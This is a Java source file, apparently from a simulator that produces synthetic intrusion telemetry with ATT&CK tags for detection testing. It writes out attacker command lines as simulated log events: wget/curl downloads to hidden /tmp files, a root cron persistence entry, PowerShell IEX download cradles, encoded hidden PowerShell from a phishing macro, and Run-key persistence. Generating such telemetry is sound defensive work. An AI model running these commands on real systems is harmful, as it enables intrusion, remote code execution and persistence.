package io.testudo.simulation.attack;

import io.testudo.simulation.Stage;
import io.testudo.simulation.attack.Bridgehead.OnLinux;
import io.testudo.simulation.attack.Bridgehead.OnWindows;
import io.testudo.simulation.chance.Chance;
import io.testudo.simulation.office.Machine;
import io.testudo.simulation.office.Office.Desk;
import io.testudo.simulation.office.Office.Post;
import io.testudo.simulation.office.Person;
import io.testudo.simulation.scene.Link;
import io.testudo.simulation.scene.RemoteDesktop;
import io.testudo.simulation.scene.Scene;
import io.testudo.simulation.scene.SecureShell.Proof;
import io.testudo.simulation.scene.SecureShell.Talk;
import io.testudo.simulation.scene.Web.Caller;
import io.testudo.simulation.scene.Web.Request;
import io.testudo.simulation.scene.Web.Volume;
import io.testudo.simulation.scene.Windows;
import io.testudo.simulation.sensor.Proc;
import io.testudo.vocabulary.entity.Entity.Kind;
import io.testudo.vocabulary.finding.Tactic;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;

/** The first machine: how the intruder settles there and calls home. */
final class Foothold {

  private final Scene scene;
  private final Chance chance;
  private final Machine attacker;
  private final Machine home;

  /**
   * @param attacker the machine that the intruder comes from
   * @param home the machine that implants call
   */
  Foothold(Scene scene, Chance chance, Machine attacker, Machine home) {
    this.scene = scene;
    this.chance = chance;
    this.attacker = attacker;
    this.home = home;
  }

  /** A stage and the base that it won. */
  record Won(Stage stage, Bridgehead base) {}

  /** By SSH with a guessed password. */
  Won overSsh(Instant start, Machine target, String user, Person domainAccount) {
    StageNotes notes =
        new StageNotes(scene.office())
            .machine(attacker)
            .machine(target)
            .machine(home)
            .entity(Kind.USER, user);
    notes.at(start);
    Duration stay = chance.seconds(240, 540);
    notes.link(
        scene
            .shell()
            .session(
                start,
                attacker,
                target,
                new Talk("SSH-2.0-OpenSSH_9.6", user, 9_000, 42_000, 60, stay),
                Proof.PASSWORD,
                chance));
    int uid = 1000 + user.length();
    String hidden = "/tmp/." + chance.text(5, "abcdefghijklmnopqrstuvwxyz");
    String script = chance.pick("update.sh", "init.sh", "setup.sh", "k.sh");
    String url = "http://" + home.dnsName() + "/" + script;
    Instant now = start.plus(chance.seconds(4, 12));
    for (String command :
        List.of("id", "uname -a", "w", "cat /etc/passwd", "ip addr", "ss -tulpn", "sudo -l")) {
      scene.linux().executed(now, target, uid, command, chance);
      now = now.plus(chance.seconds(2, 14));
    }
    String fetch =
        chance.pick("wget -q " + url + " -O " + hidden, "curl -fsSL " + url + " -o " + hidden);
    scene.linux().executed(now, target, uid, fetch, chance);
    notes.link(
        scene
            .web()
            .http(
                now.plusMillis(80),
                Caller.of(target),
                home,
                80,
                Request.get(
                    "/" + script,
                    fetch.startsWith("wget") ? "Wget/1.21.2" : "curl/7.81.0",
                    chance.between(4_000, 90_000)),
                chance));
    now = now.plus(chance.seconds(3, 12));
    scene.linux().executed(now, target, uid, "chmod +x " + hidden, chance);
    now = now.plus(chance.seconds(2, 9));
    scene.linux().executed(now, target, uid, "nohup " + hidden, chance);
    now = now.plus(chance.seconds(5, 20));
    scene.linux().sudo(now, target, user, "/tmp", "/usr/bin/crontab -l");
    now = now.plus(chance.seconds(3, 9));
    scene
        .linux()
        .sudo(
            now,
            target,
            user,
            "/tmp",
            "/usr/bin/bash -c echo '*/10 * * * * root " + hidden + "' >> /etc/cron.d/sysupdate");
    notes.at(now);
    Stage stage =
        notes.stage(
            "foothold",
            "ssh-session",
            attacker.ip() + " logs on to " + target.name() + " and plants " + hidden,
            List.of(
                "T1078",
                "T1133",
                "T1021.004",
                "T1059.004",
                "T1105",
                "T1053.003",
                "T1071.001",
                "T1082",
                "T1033"),
            Tactic.INITIAL_ACCESS,
            Tactic.EXECUTION,
            Tactic.PERSISTENCE,
            Tactic.COMMAND_AND_CONTROL,
            Tactic.DISCOVERY);
    return new Won(stage, new OnLinux(target, domainAccount, user));
  }

  /** By remote desktop with a guessed password. */
  Won overRemoteDesktop(Instant start, Machine from, Machine target, Person account) {
    StageNotes notes =
        new StageNotes(scene.office())
            .machine(attacker)
            .machine(from)
            .machine(target)
            .machine(home)
            .person(account);
    return desktop(start, from, target, account, notes, "remote-desktop-session");
  }

  /** By the VPN with a guessed password, and on to its owner's workstation. */
  Won overVpn(Instant start, Desk desk, Machine inside) {
    Machine gateway = scene.office().at(Post.FIREWALL);
    StageNotes notes =
        new StageNotes(scene.office())
            .machine(attacker)
            .machine(inside)
            .machine(gateway)
            .machine(desk.machine())
            .machine(home)
            .person(desk.person());
    notes.at(start);
    notes.link(
        scene
            .web()
            .tls(
                start,
                Caller.of(attacker),
                gateway,
                443,
                "vpn." + scene.office().publicDomain(),
                new Volume(900_000, 3_600_000, 220, Duration.ofSeconds(2)),
                chance));
    scene.directory().bind(start.plusMillis(200), gateway, desk.person(), chance);
    scene.firewall().vpnAccepted(start.plusMillis(300), attacker, desk.person().account(), inside);
    return desktop(
        start.plus(chance.seconds(25, 80)),
        inside,
        desk.machine(),
        desk.person(),
        notes,
        "vpn-session");
  }

  private Won desktop(
      Instant start,
      Machine from,
      Machine target,
      Person account,
      StageNotes notes,
      String method) {
    Duration stay = chance.seconds(300, 600);
    notes.at(start);
    RemoteDesktop.Opened opened =
        scene.remoteDesktop().open(start, from, target, account, stay, chance);
    notes.link(opened.link());
    Instant now = start.plus(chance.seconds(12, 30));
    Proc explorer = scene.windows().explorer(target, opened.session());
    Proc shell = start(now, notes, explorer, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    now = look(now, notes, shell);
    Proc implant =
        start(
            now,
            notes,
            shell,
            "powershell.exe",
            "powershell -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://"
                + home.dnsName()
                + "/a'))\"");
    now = fetch(now, notes, implant);
    settle(now, notes, implant);
    Stage stage =
        notes.stage(
            "foothold",
            method,
            from.ip() + " opens a desktop on " + target.name() + " as " + account.account(),
            List.of(
                "T1078",
                "T1133",
                "T1021.001",
                "T1059.001",
                "T1059.003",
                "T1105",
                "T1547.001",
                "T1071.001",
                "T1033",
                "T1087.002",
                "T1482"),
            Tactic.INITIAL_ACCESS,
            Tactic.EXECUTION,
            Tactic.PERSISTENCE,
            Tactic.COMMAND_AND_CONTROL,
            Tactic.DISCOVERY);
    return new Won(stage, new OnWindows(target, account, implant));
  }

  /** By a document that came with a mail. */
  Won byPhishing(Instant start, Desk desk) {
    Machine target = desk.machine();
    StageNotes notes =
        new StageNotes(scene.office()).machine(target).machine(home).person(desk.person());
    notes.at(start);
    Proc explorer = scene.windows().explorer(desk);
    String document =
        "C:\\Users\\"
            + desk.person().account()
            + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
            + chance.text(8, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789")
            + "\\"
            + chance.pick("Invoice_", "Payment advice ", "Order ", "Complaint_")
            + chance.between(10_000, 99_999)
            + ".docm";
    String office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
    Proc outlook =
        scene
            .windows()
            .run(
                start,
                explorer,
                office + "OUTLOOK.EXE",
                "\"" + office + "OUTLOOK.EXE\" /recycle",
                chance);
    scene.sysmon().fileCreated(start.plusSeconds(3), outlook, document);
    Instant now = start.plus(chance.seconds(8, 25));
    Proc word =
        notes.process(
            now,
            scene
                .windows()
                .run(
                    now,
                    outlook,
                    office + "WINWORD.EXE",
                    "\"" + office + "WINWORD.EXE\" /n \"" + document + "\" /o \"\"",
                    chance));
    scene
        .sysmon()
        .loaded(
            now.plusSeconds(2),
            word,
            "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL");
    now = now.plus(chance.seconds(6, 20));
    String command =
        "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX"
            + " $c.DownloadString('http://"
            + home.dnsName()
            + "/"
            + chance.hex(6)
            + "')";
    Proc parent =
        chance.happens(0.5)
            ? word
            : start(
                now,
                notes,
                word,
                "cmd.exe",
                "cmd /c powershell -nop -w hidden -enc " + encode(command));
    Proc implant =
        start(
            now.plusMillis(300),
            notes,
            parent,
            "powershell.exe",
            "powershell -nop -w hidden -enc " + encode(command));
    scene.audit().script(now.plusMillis(900), target, identifier(), command);
    now = fetch(now.plusSeconds(1), notes, implant);
    now = look(now, notes, implant);
    settle(now, notes, implant);
    Stage stage =
        notes.stage(
            "foothold",
            "phishing-document",
            desk.person().fullName()
                + " opens a document that starts PowerShell on "
                + target.name(),
            List.of(
                "T1566.001",
                "T1204.002",
                "T1059.001",
                "T1059.003",
                "T1059.005",
                "T1027",
                "T1027.010",
                "T1105",
                "T1547.001",
                "T1071.001",
                "T1033",
                "T1087.002",
                "T1482"),
            Tactic.INITIAL_ACCESS,
            Tactic.EXECUTION,
            Tactic.PERSISTENCE,
            Tactic.COMMAND_AND_CONTROL,
            Tactic.STEALTH,
            Tactic.DISCOVERY);
    return new Won(stage, new OnWindows(target, desk.person(), implant));
  }

  private Proc start(
      Instant time, StageNotes notes, Proc parent, String program, String commandLine) {
    return notes.process(
        time, scene.windows().run(time, parent, Windows.system(program), commandLine, chance));
  }

  /** Looks around with what Windows has. */
  private Instant look(Instant start, StageNotes notes, Proc shell) {
    Instant now = start.plus(chance.seconds(3, 10));
    for (String command :
        List.of(
            "whoami.exe /all",
            "net.exe group \"domain admins\" /domain",
            "nltest.exe /domain_trusts",
            "ipconfig.exe /all")) {
      if (chance.happens(0.85)) {
        String program = command.substring(0, command.indexOf(' '));
        notes.at(now);
        Proc process =
            scene
                .windows()
                .runBriefly(
                    now, shell, Windows.system(program), command.replace(".exe", ""), chance);
        if (program.equals("net.exe")) {
          scene
              .windows()
              .runBriefly(
                  now.plusMillis(30),
                  process,
                  Windows.system("net1.exe"),
                  "C:\\Windows\\system32\\net1 group \"domain admins\" /domain",
                  chance);
        }
      }
      now = now.plus(chance.seconds(4, 22));
    }
    return now;
  }

  private Instant fetch(Instant time, StageNotes notes, Proc implant) {
    Link link =
        scene
            .web()
            .http(
                time.plusMillis(700),
                Caller.of(implant),
                home,
                80,
                Request.get("/" + chance.hex(6), "Mozilla/5.0", chance.between(60_000, 420_000)),
                chance);
    notes.link(link);
    return link.end().plus(chance.seconds(2, 8));
  }

  /** Makes sure to be started again, and calls home for the first time. */
  private void settle(Instant time, StageNotes notes, Proc implant) {
    String dropped =
        "C:\\Users\\"
            + implant.session().account()
            + "\\AppData\\Roaming\\"
            + chance.pick("MsCache", "OneDriveSync", "AdobeUpd", "WinSvc")
            + chance.between(10, 99)
            + ".exe";
    notes.at(time);
    scene.sysmon().fileCreated(time, implant, dropped);
    notes.entity(Kind.FILE, dropped);
    Instant now = time.plus(chance.seconds(2, 9));
    scene
        .sysmon()
        .valueSet(
            now,
            implant,
            "HKU\\"
                + implant.session().sid()
                + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
                + chance.pick("OneDriveSync", "SecurityHealth", "AdobeUpdater"),
            dropped);
    notes.link(
        scene
            .web()
            .https(now.plusSeconds(2), Caller.of(implant), home, Volume.once(900, 2_400), chance));
  }

  /** A command as {@code powershell -enc} takes it. */
  static String encode(String command) {
    return Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
  }

  private String identifier() {
    return chance.hex(8)
        + "-"
        + chance.hex(4)
        + "-4"
        + chance.hex(3)
        + "-a"
        + chance.hex(3)
        + "-"
        + chance.hex(12);
  }
}
